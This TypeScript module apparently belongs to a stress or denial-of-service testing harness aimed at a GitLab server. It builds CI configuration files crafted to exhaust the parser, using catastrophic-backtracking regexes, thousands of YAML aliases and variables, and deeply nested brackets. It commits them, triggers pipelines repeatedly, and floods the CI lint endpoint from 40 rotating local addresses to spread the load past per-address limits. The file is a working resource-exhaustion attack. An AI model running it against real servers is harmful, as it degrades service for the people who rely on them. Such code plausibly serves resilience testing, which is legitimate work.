import http from 'node:http';
import { repeat, type Attack } from './attack.js';

const NETWORKS = 40;

const many = (amount: number, text: (n: number) => string, between = ' ') =>
  Array.from({ length: amount }, (_, n) => text(n)).join(between);
const jobs = (amount: number, more: string) => many(amount, (n) => `j${n}: {script: a, ${more}}`, '\n');
const patterns = (amount: number, pattern: (n: number) => string) =>
  `.p: &p [${many(amount, (n) => `'/${pattern(n)}/',`)}]\n`;

/** Files that took seconds or hours of the event loop, and files at the limits. */
const CHECKED = [
  `${patterns(50, () => '(x*){999}')}${jobs(80, 'only: *p')}`,
  `${patterns(50, (n) => `(x*){999}${n}`)}${jobs(80, 'only: *p')}`,
  `${patterns(2, (n) => `(((x+)+)+){480}${n}`)}${jobs(900, 'only: *p')}`,
  `.v: &v {${many(3_000, (n) => `A${n}: 1,`)}}\n${jobs(300, 'variables: *v')}`,
  `[${'[],'.repeat(21_000)}]`,
  '}\n'.repeat(30_000),
];

/** Configurations of pipelines, by branch. */
const BRANCHES: Readonly<Record<string, string>> = {
  variables: `variables: {${many(2_300, (n) => `A${n}: 1,`)}}\n${jobs(990, 'only: {variables: [$A1]}')}`,
  coverage: many(500, (n) => `j${n}: {script: a, coverage: '/${n} (\\d+)%/'}`, '\n'),
  aliases: `.v: &v {${many(250, (n) => `A${n}: 1,`)}}\n${jobs(300, 'variables: *v')}`,
  patterns: CHECKED[1]!,
};

/** Configurations that are expensive to read, all kinds at once: checked by anonymous callers at 40 addresses and by a user, and made pipelines of. */
export const configurations: Attack = async ({ url, token }, tally) => {
  const headers = { 'content-type': 'application/json', 'private-token': token };
  const create = async (path: string, body: object): Promise<Response> =>
    fetch(`${url}/api/v4${path}`, { method: 'POST', headers, body: JSON.stringify(body) });
  const { id } = (await (await create('/projects', { name: `configurations-${Date.now()}` })).json()) as { id: number };
  for (const [place, [branch, content]] of Object.entries(BRANCHES).entries()) {
    const action = { action: place === 0 ? 'create' : 'update', file_path: '.gitlab-ci.yml', content };
    const start = place === 0 ? {} : { start_branch: Object.keys(BRANCHES)[0] };
    const commit = { branch, commit_message: 'x', actions: [action], ...start };
    const made = await create(`/projects/${id}/repository/commits`, commit);
    if (made.status !== 201) throw new Error(`The commit of ${branch} answered ${made.status}: ${await made.text()}`);
  }
  const refs = Object.keys(BRANCHES);
  repeat(tally, refs.length, 0, async (lane) => {
    const response = await create(`/projects/${id}/pipeline`, { ref: refs[lane] });
    await response.arrayBuffer();
    return response.status;
  });
  const bodies = CHECKED.map((content) => JSON.stringify({ content }));
  let sent = 0;
  repeat(tally, 12, 0, (lane) => {
    sent += 1;
    const signedIn = lane % 3 === 0 ? { 'private-token': token } : {};
    return post(url, bodies[sent % bodies.length]!, signedIn, `127.0.6.${1 + (sent % NETWORKS)}`);
  });
};

function post(url: string, body: string, more: object, localAddress: string): Promise<number> {
  return new Promise((resolve, reject) => {
    const headers = { 'content-type': 'application/json', ...more };
    const request = http.request(`${url}/api/v4/ci/lint`, { method: 'POST', agent: false, localAddress, headers });
    request.on('error', reject).on('response', (response) =>
      response
        .resume()
        .on('end', () => resolve(response.statusCode!))
        .on('error', reject),
    );
    request.end(body);
  });
}
